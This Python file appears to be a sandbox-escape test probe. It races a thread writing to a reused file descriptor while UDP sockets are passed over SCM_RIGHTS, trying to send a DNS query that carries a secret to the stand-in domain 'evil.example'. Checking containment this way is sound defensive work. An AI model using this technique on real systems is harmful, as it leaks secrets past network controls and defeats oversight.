"""Passes UDP sockets within this process, while a thread writes to the fd that the receiver gets.
What the thread writes is a question that carries data."""

import array
import os
import socket
import sys
import threading
import time

from attack import RESOLVER, SECRET, patience, question

# Higher than every other fd that this program has had.
FREE = 60
asked = question(SECRET + ".evil.example")
over = threading.Event()
sent = []


def written_while_passed(connected_before):
    """Whether the thread got the question into a socket that is connected to the name server. The
    socket is connected before or after it is passed."""
    sys.setswitchinterval(0.0001)
    here, there = socket.socketpair()
    end = time.monotonic() + patience(8)
    low = os.open("/dev/null", os.O_RDONLY)
    kept = [low]
    while kept[-1] < FREE - 1:
        kept.append(os.dup(low))
    threading.Thread(target=_write, daemon=True).start()
    os.close(kept.pop(3))
    while not over.is_set() and time.monotonic() < end:
        out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if connected_before:
            out.connect((RESOLVER, 53))
        here.sendmsg(
            [b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [out.fileno()]))]
        )
        if not connected_before:
            out.connect((RESOLVER, 53))
        _, control, _, _ = there.recvmsg(1, socket.CMSG_SPACE(4))
        for _, _, data in control:
            for fd in array.array("i", data[:4]):
                os.close(fd)
        out.close()
    return bool(sent)


def _write():
    while not over.is_set():
        try:
            if os.write(FREE, asked) == len(asked):
                sent.append(True)
                over.set()
        except OSError:
            pass
